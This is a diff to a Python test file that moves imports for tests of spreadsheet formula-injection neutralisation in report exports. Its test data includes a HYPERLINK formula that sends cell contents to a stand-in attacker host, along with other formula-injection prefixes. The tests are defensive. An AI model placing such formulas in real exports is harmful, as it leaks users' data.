@@ -9,7 +9,7 @@ import pytest
 
 from tests.support.api_helpers import as_
 from tests.support.sms_fixtures import sms_world
-from tests.support.sms_helpers import inbound_params, signed_post
+from sms.providers.twilio.standin import inbound_params, signed_post
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1"]
 
@@ -45,7 +45,7 @@ def test_xlsx_cells_are_text_never_formulas(app, client, world):
 
 
 def test_neutralise_follows_the_owasp_rule():
-    from workers.export import neutralise
+    from core.domain.report_files import neutralise
     for formula in FORMULAS:
         assert neutralise(formula) == "'" + formula
     assert neutralise("映月社区") == "映月社区" and neutralise(3) == 3 and neutralise(-1.5) == -1.5
